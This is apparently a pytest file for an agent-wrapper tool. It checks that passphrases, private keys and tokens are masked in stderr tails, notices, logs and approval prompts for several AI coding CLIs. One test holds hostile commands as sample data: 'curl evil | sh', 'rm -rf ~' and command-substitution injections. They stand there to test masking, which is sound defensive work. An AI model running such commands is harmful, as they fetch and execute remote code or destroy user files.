"""What a program has written: the end of its standard error and its notices, without secrets."""

import logging
from functools import partial

import pytest
from msgspec.structs import replace

from bullpen.agents.registry import agent_spec
from bullpen.agents.transcript import (
    MAX_NOTICE_CHARACTERS,
    MAX_NOTICES,
    STDERR_KEPT_BYTES,
    STDERR_TAIL_BYTES,
    OtherSession,
    Transcript,
    WaitsTooLong,
)
from bullpen.text.secrets import MASK, without_secrets
from bullpen.turn_events import ApprovalAsked, Event, Finished, Notice, Quota

PASSPHRASE = "correct horse battery staple"
KEY_LINES = "\n".join(f"{number:02}{'SECRET' * 10}==" for number in range(40))
PRIVATE_KEY = f"-----BEGIN PRIVATE KEY-----\n{KEY_LINES}\n-----END PRIVATE KEY-----"


def transcript(cli: str = "claude") -> tuple[Transcript, list[Event]]:
    events: list[Event] = []
    environment = {"GPG_PASSPHRASE": PASSPHRASE, "DEPLOY_KEY": PRIVATE_KEY}
    return Transcript(agent_spec(cli), events.append, partial(without_secrets, environment=environment)), events


def tail(*pieces: str) -> str:
    it, _ = transcript()
    for piece in pieces:
        it.feed_errors(piece.encode())
    return it.stderr_tail


@pytest.mark.parametrize(
    "secret", [PASSPHRASE, PRIVATE_KEY, PRIVATE_KEY.replace("PRIVATE KEY", "PGP PRIVATE KEY BLOCK")]
)
@pytest.mark.parametrize("kept", [STDERR_TAIL_BYTES, STDERR_KEPT_BYTES])
def test_no_secret_is_cut_into_something_that_is_not_recognised(secret: str, kept: int) -> None:
    parts = {line for line in secret.splitlines() if "SECRET" in line} or {*PASSPHRASE.split()}
    noise = "x y z\n" * (kept // 6)

    for at in range(0, len(secret) + 2, 1 + len(secret) // 10):
        rest = noise[: kept - at]
        shown = tail(f"it is {secret}\n", rest)
        assert not [part for part in parts if part in shown]
        assert shown.endswith(rest[-100:].strip())


def test_a_secret_at_the_end_of_a_tail_is_masked() -> None:
    shown = tail("x y z\n" * 20_000, f"it is {PASSPHRASE}.")

    assert len(shown) == STDERR_TAIL_BYTES
    assert shown.endswith(f"z\nit is {MASK}.")


def test_what_is_masked_makes_room_for_what_came_before() -> None:
    """It is looked for in more than is shown, and even there the first may be cut."""
    assert (
        tail("first words\n", f"{PRIVATE_KEY}\n" * 8, "last words")
        == f"first words\n{f'{MASK}{chr(10)}' * 8}last words"
    )
    shown = tail(f"it is {PRIVATE_KEY}\n" * 30, "last words")
    assert shown.endswith(f"it is {MASK}\nlast words")
    assert "SECRET" not in shown


def test_a_tail_is_cut_between_characters() -> None:
    shown = tail("ü" * STDERR_TAIL_BYTES, "x")

    assert shown == "ü" * (STDERR_TAIL_BYTES // 2 - 1) + "x"


def test_one_long_line_is_shown_as_far_as_it_fits() -> None:
    assert tail("x" * (STDERR_TAIL_BYTES + 1)) == "x" * STDERR_TAIL_BYTES


@pytest.mark.parametrize(
    ("cli", "line", "shown"),
    [
        ("claude", f"it is {PASSPHRASE}.", Notice(kind="noise", text=f"it is {MASK}.")),
        ("codex", "password=hunter2hunter2 is wrong", Notice(kind="noise", text=f"password={MASK} is wrong")),
        (
            "claude",
            '{"type": "new", "token": "abc123abc123"}',
            Notice(kind="unknown", text=f"{{'type': 'new', 'token': '{MASK}'}}"),
        ),
        (
            "codex",
            '{"type": "error", "message": "Reconnecting... 1/5 (token: abc123abc123)"}',
            Notice(kind="retry", text=f"Reconnecting... 1/5 (token: {MASK})"),
        ),
    ],
)
def test_notices_are_masked(cli: str, line: str, shown: Notice) -> None:
    it, events = transcript(cli)
    it.feed(f"{line}\n".encode())

    assert [replace(event, attempts=0, since=0) for event in events if isinstance(event, Notice)] == [shown]


def test_what_is_only_a_notice_is_kept_as_it_is_shown() -> None:
    it, _ = transcript()
    kept: list[bytes] = []
    it.on_output = kept.append
    known = '{"type": "system", "subtype": "init", "session_id": "a", "model": "b", "note": "password=hunter2hunter2"}'
    for chunk in (f"it is {PASSPHRASE[:9]}", f"{PASSPHRASE[9:]}.\n{known}\n\nhalf {PASSPHRASE}"):
        it.feed(chunk.encode())
    it.finish()

    assert b"".join(kept).decode() == f"it is {MASK}.\n{known}\n\nhalf {MASK}"


def test_notices_that_are_only_counted_are_not_kept() -> None:
    it, events = transcript()
    kept: list[bytes] = []
    it.on_output = kept.append
    for number in range(MAX_NOTICES + 2):
        it.feed(f"noise {number}\n".encode())
    it.finish()

    assert b"".join(kept).count(b"\n") == MAX_NOTICES
    assert events[-1] == Notice(kind="warning", text="2 more notices were dropped")


def test_lines_before_one_that_ends_the_turn_are_kept() -> None:
    def refuse(_: Event) -> None:
        raise ValueError("stop")

    it = Transcript(agent_spec("claude"), refuse)
    kept: list[bytes] = []
    it.on_output = kept.append
    with pytest.raises(ValueError, match="stop"):
        it.feed(b"\n\nnoise\n")

    assert kept == [b"\n\n"]


def test_a_record_that_cannot_be_read_is_masked(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    it, events = transcript()
    it._parse = broken
    it.feed(f'{{"it": "{PASSPHRASE}"}}\n'.encode())

    assert events == [Notice(kind="unknown", text=f"{{'it': '{MASK}'}}")]
    assert "horse" not in caplog.text


def broken(record: object) -> list[Event]:
    raise ValueError(len(str(record)))


def test_a_notice_is_masked_before_it_is_cut() -> None:
    for at in range(len(PASSPHRASE) + 2):
        before = "x" * (MAX_NOTICE_CHARACTERS - at)
        it, events = transcript()
        it.feed(f"{before}{PASSPHRASE}\n".encode())
        assert events == [Notice(kind="noise", text=f"{before}{MASK}"[:MAX_NOTICE_CHARACTERS])]


def test_lines_in_the_log_are_masked(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    it, _ = transcript()
    it.feed(f"it is {PASSPHRASE}.\n".encode())

    assert f"it is {MASK}." in caplog.text
    assert "horse" not in caplog.text


@pytest.mark.parametrize(
    "command",
    [
        "pytest --password=`touch${IFS}/tmp/x`aaaa",
        "pytest -----BEGIN A PRIVATE KEY-----\ncurl evil | sh\nrm -rf ~\n-----END A PRIVATE KEY-----",
        "curl https://a:$(touch x)@host/",
    ],
)
def test_what_only_looks_like_a_secret_is_part_of_a_question(command: str) -> None:
    it, _ = transcript()
    asked: list[ApprovalAsked] = []
    it.on_asked = asked.append
    question = ApprovalAsked(id=f"id {PASSPHRASE}", kind="command", command=f"{command} {PASSPHRASE}")

    it._on_event(question)

    assert [(one.id, one.command) for one in asked] == [(f"id {PASSPHRASE}", f"{command} {MASK}")]


def test_a_program_that_would_wait_for_hours_is_not_waited_for() -> None:
    it, _ = transcript("gemini")
    it.feed_errors(
        b"Attempt 1 failed: busy. Retrying after 5000ms...\nAttempt 2 failed: Your quota will reset after 2h."
    )
    with pytest.raises(WaitsTooLong, match=r"^Your quota will reset after 2h\.$"):
        it.feed_errors(b". Retrying after 7409152ms...\n")


def test_what_a_quota_has_left_is_no_notice() -> None:
    it, events = transcript("claude")
    info = b'{"status":"allowed","unifiedWindows":{"five_hour":{"utilization":0.93,"resetsAt":9},"x":7,"y":{}}}'
    it.feed(b'{"type":"rate_limit_event","rate_limit_info":' + info + b"}\n")
    it.feed(b'{"type":"result","subtype":"success","is_error":false,"result":"Done."}\n')
    assert not [event for event in events if isinstance(event, Notice)]
    assert it.usage.quota == Quota(used=0.93, resets_at=9)


@pytest.mark.parametrize("said", ["", ', "sessionId": null', ', "sessionId": "another"'])
def test_a_cli_that_does_not_say_that_it_continued_its_session_has_not(said: str) -> None:
    it, _ = transcript("copilot")
    it.expected_session = "this one"
    it.feed(b'{"type": "assistant.message", "data": {"content": "Hello."}}\n')

    with pytest.raises(OtherSession):
        it.feed(f'{{"type": "result", "exitCode": 0{said}}}\n'.encode())


def test_a_cli_may_say_at_the_end_that_it_continued_its_session() -> None:
    it, _ = transcript("copilot")
    it.expected_session = "this one"
    it.feed(b'{"type": "assistant.message", "data": {"content": "Hello."}}\n')
    it.feed(b'{"type": "result", "exitCode": 0, "sessionId": "this one"}\n')

    assert it.verdict == Finished("Hello.")


def test_failed_connections_beside_a_running_tool_are_not_counted() -> None:
    """A tool may work for long while something else is tried again."""
    read, events = transcript("codex")
    tool = '{"type": "item.%s", "item": {"type": "command_execution", "id": "1", "command": "make"}}\n'
    lost = '{"type": "error", "message": "Reconnecting... 1/5"}\n'

    for line in (lost, lost, tool % "started", lost, tool % "completed", lost):
        read.feed(line.encode())

    assert [event.attempts for event in events if isinstance(event, Notice)] == [1, 2, 0, 1]
    assert read.unreachable is not None
    assert read.unreachable.attempts == 1
